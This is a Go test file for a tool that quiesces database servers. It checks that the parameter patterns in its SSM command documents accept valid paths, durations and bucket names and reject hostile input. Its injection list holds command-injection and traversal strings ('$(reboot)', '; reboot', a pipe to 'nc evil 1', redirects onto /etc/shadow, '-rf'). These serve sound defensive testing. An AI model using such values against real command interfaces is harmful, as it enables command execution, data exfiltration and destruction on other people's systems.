package ssmdoc_test

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/quiesce/quiesce/ssmdoc"
)

// Values an attacker (or a typo) could send through SendCommand. Each must be
// refused by every free-form parameter it is listed for.
var injections = []string{
	"; reboot",
	"/var/lib/mysql;reboot",
	"$(reboot)",
	"/var/lib/$(id)",
	"`reboot`",
	"/var/lib/`id`",
	"/var/lib/mysql\nreboot",
	"5s\n",
	"\n",
	"/var/lib/mysql && reboot",
	"a&&b",
	"/var/lib/mysql | nc evil 1",
	"a|b",
	`"; reboot; "`,
	`'`,
	`/var/lib/my"sql`,
	"/var/lib/my sql",
	"5 s",
	" 5s",
	"/var/lib/../../etc",
	"/..",
	"/var/lib/./mysql",
	"/.ssh",
	"--mount=/",
	"-rf",
	"/var/lib/mysql,--mount=/",
	"/var/lib/-rf",
	"/var/lib/*",
	"*",
	"/var/lib/mysq?",
	"/var/lib/{a,b}",
	"/var/lib/mуsql", // Cyrillic у
	"/var/lib/mysql\u200b",
	"ѕ5", // Cyrillic ѕ
	"５s", // fullwidth digit
	"$SSM_action",
	"${IFS}",
	"/var/lib/mysql>/etc/passwd",
	"/var/lib/mysql</etc/shadow",
	"/var/lib/mysql#",
	"~root",
	"/var/lib/mysql\\",
	"/var/lib/mysql\x00",
	"/var/lib/mysql\t",
	"/",
	"//",
	"/var/lib/mysql/",
	",",
	"/a,,/b",
	"5s;reboot",
	"-5s",
	"-",
	"-abc",
	"a-$(x)",
}

// Per-parameter extras: values that are harmless to a shell but wrong for
// that parameter (and would otherwise reach hostagent or the AWS CLI).
var extraInvalid = map[string][]string{
	"mounts":            {"relative/path", "var/lib/mysql", strings.Repeat("/a", 513)},
	"mysqlDefaultsFile": {"my.cnf", "/root/.my.cnf"},
	"lockWait":          {"5", "5d", "1e9s", "0x10s", "5S", "1000000000s", "1.5µs", "1.1234567891s", "1m2m3m4m"},
	"longQueryLimit":    {"5", "5d", "1e9s", "10 s"},
	"timeout":           {"30", "30sec", "1e9s", "0x10s"},
	"runId":             {"-r1", "r_1", "r.1", strings.Repeat("a", 65)},
	"bucket":            {"A-Bucket", "a", "bucket_", "-bucket", ".bucket"},
	"prefix":            {"/abs", "trailing/", "a//b", "a/../b", strings.Repeat("a", 513)},
	"version":           {"-v1", ".v1", "v1/../x", strings.Repeat("v", 65)},
	"region":            {"us_east_1", "US-EAST-1", "us-east", "eu-west-100"},
}

func TestAllowedPatternsRejectInjection(t *testing.T) {
	docs := map[string][]byte{"quiesce": ssmdoc.QuiesceDocument(), "install": ssmdoc.InstallDocument()}
	for docName, raw := range docs {
		d, err := ssmdoc.Load(raw)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range d.ParameterNames() {
			p := d.Parameters[name]
			if p.AllowedPattern != "" {
				// The same text must compile in Go (the agent's engine) and
				// avoid constructs RE2 lacks and Java has (the service's).
				if _, err := regexp.Compile(p.AllowedPattern); err != nil {
					t.Errorf("%s.%s: %v", docName, name, err)
				}
				for _, bad := range []string{"(?=", "(?!", "(?<", `\b`, `\1`} {
					if strings.Contains(p.AllowedPattern, bad) {
						t.Errorf("%s.%s: pattern uses %q, not portable between Java and RE2", docName, name, bad)
					}
				}
			}
			rejected := 0
			for _, v := range append(append([]string(nil), injections...), extraInvalid[name]...) {
				err := d.Validate(name, v)
				if err == nil {
					t.Errorf("%s.%s accepted hostile value %q", docName, name, v)
					continue
				}
				rejected++
			}
			if rejected < 10 {
				t.Errorf("%s.%s rejected only %d samples", docName, name, rejected)
			}
		}
	}
}

func TestAllowedPatternsAcceptValidValues(t *testing.T) {
	valid := map[string][]string{
		"action":            {"freeze", "thaw", "check", "status"},
		"mounts":            {"", "/var/lib/mysql", "/var/lib/mysql,/var/lib/mysql-binlog", "/data/db_1/x.y", "/mnt/vol-0abc,/srv/_x"},
		"mysqlLock":         {"auto", "ftwrl", "backup-stage", "instance", "none"},
		"mysqlDefaultsFile": {"", "/etc/quiesce/my.cnf", "/root/quiesce/my.cnf"},
		"lockWait":          {"500ms", "5s", "2m", "1m30s", "1.5s", "2m0s", "1h0m0s", "1.234567891s"},
		"longQueryLimit":    {"10s", "0s", "250ms"},
		"timeout":           {"30s", "1s", "10m", "2m30s"},
		"killLongQueries":   {"true", "false"},
		"runId":             {"", "r1", "20261125T193000Z-ab12", "9f86d081-884c-4d63-9a9b-3f1e0c2d5a77", strings.Repeat("a", 64)},
	}
	d := mustLoad(t, "Quiesce")
	for name, values := range valid {
		for _, v := range values {
			if err := d.Validate(name, v); err != nil {
				t.Errorf("valid value rejected: %v", err)
			}
		}
	}
	inst := mustLoad(t, "install")
	for name, values := range map[string][]string{
		"bucket":  {"my-releases", "a.b.c", "quiesce-123456789012-us-east-1"},
		"prefix":  {"", "quiesce", "quiesce/releases", "team_a/quiesce.bin"},
		"version": {"v0.1.0", "0.1.0", "v0.1.0-3-g0836fbf", "0836fbf", "v1.2.3+build.5"},
		"region":  {"", "us-east-1", "eu-central-2", "us-gov-west-1", "ap-southeast-4"},
	} {
		for _, v := range values {
			if err := inst.Validate(name, v); err != nil {
				t.Errorf("valid value rejected: %v", err)
			}
		}
	}
}

// The Lambda sends time.Duration.String() for the duration parameters; every
// such value from 1 ms to 24 h must pass the document (a rejected value would
// fail SendCommand with InvalidParameters).
func TestGoDurationStringsAccepted(t *testing.T) {
	d := mustLoad(t, "Quiesce")
	var samples []time.Duration
	for _, base := range []time.Duration{time.Millisecond, time.Second, time.Minute, time.Hour} {
		for _, n := range []int64{1, 2, 7, 10, 59, 60, 61, 99, 100, 999, 1001, 1234567} {
			samples = append(samples, time.Duration(n)*base, time.Duration(n)*base+time.Duration(n)*time.Millisecond/7)
		}
	}
	samples = append(samples, 1234567891*time.Nanosecond, 90*time.Second, 10*time.Minute, 24*time.Hour)
	for _, s := range samples {
		if s < time.Millisecond || s > 24*time.Hour {
			continue
		}
		for _, name := range []string{"lockWait", "longQueryLimit", "timeout"} {
			if err := d.Validate(name, s.String()); err != nil {
				t.Errorf("Go duration %v: %v", s, err)
			}
		}
	}
}
